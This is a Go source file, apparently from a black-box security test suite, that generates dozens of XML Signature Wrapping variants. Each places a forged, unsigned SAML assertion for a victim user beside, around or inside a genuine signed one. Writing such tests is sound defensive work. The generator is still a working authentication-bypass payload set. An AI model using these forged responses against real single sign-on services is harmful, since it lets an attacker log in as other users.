package blackbox

import (
	"fmt"
	"strings"
)

// wrapping makes every placement of a forged assertion beside, around and inside a genuine one, with every way to spell
// its ID. The genuine message is the attacker's own; the forged assertion names the victim.
func wrapping(t *target) []badSAML {
	var out []badSAML
	for _, whole := range []bool{false, true} {
		for idName, id := range forgedIDs {
			for place, wrap := range placements {
				out = append(out, badSAML{fmt.Sprintf("XSW %s, %s, response signed %t", place, idName, whole), true, func() string {
					m := good(t, attacker)
					if whole {
						m.signA, m.signR = nil, &signature{key: corpKey()}
					}
					return m.encoded(wrap(newPieces(t, m, id)))
				}})
			}
		}
	}
	return out
}

// forgedIDs turn the genuine ID attribute into the forged one's.
var forgedIDs = map[string]func(id string) string{
	"same ID": func(id string) string { return ` ID="` + id + `"` }, "other ID": func(string) string { return ` ID="` + randomID() + `"` }, "no ID": func(string) string { return "" },
	"lower-case ID": func(id string) string { return ` id="` + id + `"` }, "prefixed ID": func(id string) string { return ` xmlns:x="urn:x" x:ID="` + id + `"` }, "both IDs": func(id string) string { return ` ID="` + randomID() + `" Id="` + id + `"` },
}

// pieces are what a wrapping is put together from; all is text.
type pieces struct {
	m                      *message
	genuine, bare, sig     string // the assertion as signed, without its signature, and the signature that covers it
	evil                   string // the forged assertion, unsigned; slot marks where a signature would stand
	response, responseBare string // the genuine Response, and without a signature of its own
	wholeSigned            bool
}

const slot = "@here@"

func newPieces(t *target, m *message, id func(string) string) *pieces {
	p := &pieces{m: m, wholeSigned: m.signR != nil}
	p.genuine = m.assertion()
	p.response = m.xml(p.genuine)
	p.bare, p.sig = split(p.genuine)
	if p.wholeSigned {
		p.responseBare, p.sig = split(p.response)
	} else {
		p.responseBare = p.response
	}
	forged := good(t, victim)
	forged.assertID = "-"
	forged.assertAttrs = id(m.assertID)
	forged.signA = nil
	forged.preA = func(text string) string { return strings.Replace(text, slotA, slot, 1) }
	p.evil = forged.assertion()
	return p
}

// split takes the one signature out of an element.
func split(text string) (bare, sig string) {
	start, end := strings.Index(text, "<ds:Signature "), strings.Index(text, "</ds:Signature>")
	if start < 0 {
		return text, ""
	}
	end += len("</ds:Signature>")
	return text[:start] + text[end:], text[start:end]
}

// plainEvil has no signature, signedEvil carries what is given.
func (p *pieces) plainEvil() string            { return strings.Replace(p.evil, slot, "", 1) }
func (p *pieces) signedEvil(sig string) string { return strings.Replace(p.evil, slot, sig, 1) }

// beside writes a Response with these children in the place of the assertion. Where the Response was the signed
// element, its signature stays.
func (p *pieces) beside(children string) string {
	if p.wholeSigned {
		return strings.Replace(p.response, p.genuine, children, 1)
	}
	return p.m.xml(children)
}

func (p *pieces) inObject(sig, content string) string {
	return strings.Replace(sig, "</ds:Signature>", "<ds:Object>"+content+"</ds:Object></ds:Signature>", 1)
}

func (p *pieces) inKeyInfo(sig, content string) string {
	return strings.Replace(sig, "</ds:KeyInfo>", content+"</ds:KeyInfo>", 1)
}

func (p *pieces) beforeEnd(assertion, content string) string {
	return strings.TrimSuffix(assertion, "</saml:Assertion>") + content + "</saml:Assertion>"
}

// outer is a forged Response that holds the victim's assertion, with whatever is put into it.
func (p *pieces) outer(signature, extra string) string {
	text := p.m.xml("")
	text, _ = split(text)
	text = strings.Replace(text, p.m.respID, randomID(), 1)
	text = strings.Replace(text, "<samlp:Status>", signature+"<samlp:Status>", 1)
	return strings.Replace(text, "</samlp:Response>", p.plainEvil()+extra+"</samlp:Response>", 1)
}

// placements: the eight classic forms and what else has worked somewhere.
var placements = map[string]func(*pieces) string{
	"evil before genuine":              func(p *pieces) string { return p.beside(p.plainEvil() + p.genuine) },
	"evil after genuine":               func(p *pieces) string { return p.beside(p.genuine + p.plainEvil()) },
	"evil on both sides":               func(p *pieces) string { return p.beside(p.plainEvil() + p.genuine + p.plainEvil()) },
	"evil alone":                       func(p *pieces) string { return p.beside(p.plainEvil()) },
	"evil with the signature":          func(p *pieces) string { return p.beside(p.signedEvil(p.sig)) },
	"evil with it, bare genuine after": func(p *pieces) string { return p.beside(p.signedEvil(p.sig) + p.bare) },
	"bare genuine, evil with it after": func(p *pieces) string { return p.beside(p.bare + p.signedEvil(p.sig)) },
	"genuine at the end of evil":       func(p *pieces) string { return p.beside(p.beforeEnd(p.plainEvil(), p.genuine)) },
	"bare genuine at the end of evil":  func(p *pieces) string { return p.beside(p.beforeEnd(p.signedEvil(p.sig), p.bare)) },
	"genuine in Advice of evil": func(p *pieces) string {
		return p.beside(strings.Replace(p.plainEvil(), "<saml:AuthnStatement", "<saml:Advice>"+p.genuine+"</saml:Advice><saml:AuthnStatement", 1))
	},
	"genuine in Object of evil's signature": func(p *pieces) string { return p.beside(p.signedEvil(p.inObject(p.sig, p.bare))) },
	"whole genuine in Object":               func(p *pieces) string { return p.beside(p.signedEvil(p.inObject(p.sig, p.genuine))) },
	"genuine in KeyInfo of evil":            func(p *pieces) string { return p.beside(p.signedEvil(p.inKeyInfo(p.sig, p.bare))) },
	"evil in Object of genuine": func(p *pieces) string {
		return strings.Replace(p.response, p.sig, p.inObject(p.sig, p.plainEvil()), 1)
	},
	"evil in KeyInfo of genuine": func(p *pieces) string {
		return strings.Replace(p.response, p.sig, p.inKeyInfo(p.sig, p.plainEvil()), 1)
	},
	"evil at the end of genuine": func(p *pieces) string { return p.beside(p.beforeEnd(p.genuine, p.plainEvil())) },
	"evil in Extensions": func(p *pieces) string {
		return strings.Replace(p.response, "<samlp:Status>", "<samlp:Extensions>"+p.plainEvil()+"</samlp:Extensions><samlp:Status>", 1)
	},
	"genuine in Extensions": func(p *pieces) string {
		return strings.Replace(p.beside(p.plainEvil()), "<samlp:Status>", "<samlp:Extensions>"+p.genuine+"</samlp:Extensions><samlp:Status>", 1)
	},
	"genuine in StatusDetail": func(p *pieces) string {
		return strings.Replace(p.beside(p.plainEvil()), "</samlp:Status>", "<samlp:StatusDetail>"+p.genuine+"</samlp:StatusDetail></samlp:Status>", 1)
	},
	"evil in StatusDetail": func(p *pieces) string {
		return strings.Replace(p.response, "</samlp:Status>", "<samlp:StatusDetail>"+p.plainEvil()+"</samlp:StatusDetail></samlp:Status>", 1)
	},
	"genuine in an attribute of evil": func(p *pieces) string {
		return p.beside(strings.Replace(p.plainEvil(), "<saml:AttributeValue>staff", "<saml:AttributeValue>"+p.genuine, 1))
	},
	"genuine in confirmation data": func(p *pieces) string {
		return p.beside(strings.Replace(p.plainEvil(), "</saml:SubjectConfirmation>", p.genuine+"</saml:SubjectConfirmation>", 1))
	},
	"genuine in the Issuer of evil": func(p *pieces) string {
		return p.beside(strings.Replace(p.plainEvil(), "</saml:Issuer>", p.genuine+"</saml:Issuer>", 1))
	},
	"evil before the Issuer": func(p *pieces) string {
		return strings.Replace(p.response, "<saml:Issuer>", p.plainEvil()+"<saml:Issuer>", 1)
	},
	"genuine response in Extensions of evil": func(p *pieces) string {
		return strings.Replace(p.outer("", ""), "<samlp:Status>", "<samlp:Extensions>"+p.response+"</samlp:Extensions><samlp:Status>", 1)
	},
	"genuine response in Object of evil":  func(p *pieces) string { return p.outer(p.inObject(p.sig, p.responseBare), "") },
	"genuine response in KeyInfo of evil": func(p *pieces) string { return p.outer(p.inKeyInfo(p.sig, p.responseBare), "") },
	"genuine response at the end of evil": func(p *pieces) string { return p.outer("", p.response) },
	"evil response with the signature":    func(p *pieces) string { return p.outer(p.sig, "") },
	"evil response, genuine assertion":    func(p *pieces) string { return p.outer(p.sig, p.genuine) },
	"evil in another namespace": func(p *pieces) string {
		return p.beside(strings.ReplaceAll(p.plainEvil(), nsA, "urn:oasis:names:tc:SAML:1.0:assertion") + p.genuine)
	},
	"genuine hidden under another name": func(p *pieces) string {
		return p.beside(p.plainEvil() + "<samlp:Extra>" + p.genuine + "</samlp:Extra>")
	},
	"genuine in EncryptedAssertion": func(p *pieces) string {
		return p.beside(p.plainEvil() + `<saml:EncryptedAssertion>` + p.genuine + `</saml:EncryptedAssertion>`)
	},
	"two roots": func(p *pieces) string { return p.response + p.beside(p.plainEvil()) },
	"subject of evil in genuine": func(p *pieces) string {
		return p.beside(strings.Replace(p.genuine, attacker, victim, 1))
	},
	"second subject in genuine": func(p *pieces) string {
		return p.beside(strings.Replace(p.genuine, "</saml:Subject>", "</saml:Subject><saml:Subject><saml:NameID>"+victim+"</saml:NameID></saml:Subject>", 1))
	},
	"attacker's key beside": func(p *pieces) string {
		forged := strings.ReplaceAll(p.evil, slot, slotA)
		id := ""
		if strings.Contains(forged, ` ID="`) {
			id = strings.SplitN(strings.SplitN(forged, ` ID="`, 2)[1], `"`, 2)[0]
		}
		return p.beside((&signature{key: foreignKey()}).fill(forged, id, slotA) + p.genuine)
	},
}
